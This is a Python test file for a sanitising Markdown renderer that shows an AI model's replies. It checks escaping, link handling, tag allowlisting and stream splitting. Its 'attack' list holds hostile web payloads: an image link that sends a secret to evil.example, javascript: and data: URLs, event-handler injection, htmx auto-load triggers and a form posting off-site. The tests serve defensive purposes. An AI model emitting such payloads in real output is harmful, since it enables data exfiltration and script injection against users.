"""A model's Markdown: whatever it says, the page only shows it."""

import pytest
from hypothesis import given, strategies

from services.assistant import markdown


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**Objet : réponse**", "<p><strong>Objet : réponse</strong></p>"),
        ("# Titre", "<h3>Titre</h3>"),
        ("## Partie", "<h3>Partie</h3>"),
        ("## A\n### B\n## C\n# D", "<h3>A</h3>\n<h4>B</h4>\n<h3>C</h3>\n<h3>D</h3>"),
        ("# A\n###### B", "<h3>A</h3>\n<h4>B</h4>"),
        ("- un\n- deux", "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>"),
        ("3. trois", '<ol start="3">\n<li>trois</li>\n</ol>'),
        ("~~non~~", "<p><s>non</s></p>"),
        ("<b>gras</b>", "<p>&lt;b&gt;gras&lt;/b&gt;</p>"),
        ("```\n<script>\n```", "<pre><code>&lt;script&gt;\n</code></pre>"),
    ],
)
def test_it_renders(text: str, html: str) -> None:
    assert markdown.render(text).strip() == html


def test_it_renders_a_table() -> None:
    html = markdown.render("| a | b |\n|:--|--:|\n| x | 12 |\n")
    assert "<td>12</td>" in html  # no style attribute of its own
    assert html.startswith('<div class="table" role="group"')
    assert html.strip().endswith("</table></div>")


def test_it_shows_where_a_link_goes() -> None:
    html = markdown.render("[la banque](https://evil.example/?q=1&r=2)")
    assert html.strip() == (
        '<p><a href="https://evil.example/?q=1&amp;r=2" rel="noopener noreferrer nofollow">la banque</a>'
        " (evil.example)</p>"
    )
    assert markdown.render("<https://terrain.example/aide>").count("terrain.example") == 2


@pytest.mark.parametrize(
    "address", ["/deconnexion", "//evil.example/x", "?suite=1", "#annonce", "x", "/\\evil.example"]
)
def test_it_links_to_nothing_inside_the_house(address: str) -> None:
    assert markdown.render(f"[ici]({address})").strip() == "<p>ici</p>"


@pytest.mark.parametrize(
    "attack",
    [
        "![x](https://evil.example/?d=secret)",
        "<img src=https://evil.example>",
        '<a hx-get="/x" hx-trigger="load">x</a>',
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        '<hx-partial hx-target="body">x</hx-partial>',
        '[x](https://a.example "onmouseover=alert(1)")',
        "<style>*{display:none}</style>",
        "<form action=https://evil.example><input name=x></form>",
        '<div id="annonce" class="sr">x</div>',
        "[a]: https://evil.example\n\n![a]",
        '```html" onload="alert(1)\nx\n```',
    ],
)
def test_it_leaves_nothing_that_acts(attack: str) -> None:
    html = markdown.render(attack)
    for word in (
        "<img",
        "<script",
        "<style",
        "<form",
        "<input",
        "<div",
        "<hx-",
        'javascript:"',
        'href="data',
    ):
        assert word not in html
    tags = [part.split(">")[0] for part in html.split("<")[1:]]
    assert not [tag for tag in tags if "hx-" in tag or " on" in tag or "class" in tag or "title" in tag]
    assert 'href="javascript' not in html


@given(strategies.text(alphabet="a `~\n#-*<>|[]()!:/.\r\t\u2028&\"'=", max_size=200))
def test_it_never_writes_a_tag_that_is_not_on_the_list(text: str) -> None:
    for html in (markdown.render(text), markdown.plain(text)):
        names = {part.lstrip("/").split(" ")[0].split(">")[0].rstrip("/") for part in html.split("<")[1:]}
        assert names <= {
            "p", "br", "hr", "strong", "em", "s", "code", "pre", "ul", "ol", "li", "blockquote", "h3", "h4",
            "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "a", "div",
        }  # fmt: skip


@pytest.mark.parametrize(
    ("text", "closed"),
    [
        ("une phrase en cours", ""),
        ("Premier.\n\nDeux", "Premier.\n\n"),
        ("Premier.\n\n```\nx\n\ny", "Premier.\n\n"),
        ("```\nx\n\ny\n```\n\nfin", "```\nx\n\ny\n```\n\n"),
        ("~~~\n```\n\n~~~\n\nfin", "~~~\n```\n\n~~~\n\n"),
    ],
)
def test_it_knows_what_can_no_longer_change(text: str, closed: str) -> None:
    assert text[: markdown.split(text)] == closed


@given(strategies.text(alphabet="a`~\n #-*1.", max_size=120), strategies.integers(0, 120))
def test_it_never_takes_back_what_it_closed(text: str, cut: int) -> None:
    assert markdown.split(text[:cut]) <= markdown.split(text)


def test_it_keeps_the_lines_of_a_question() -> None:
    assert markdown.plain("un\r\ndeux\n\n<trois>") == "<p>un<br>deux</p><p>&lt;trois&gt;</p>"
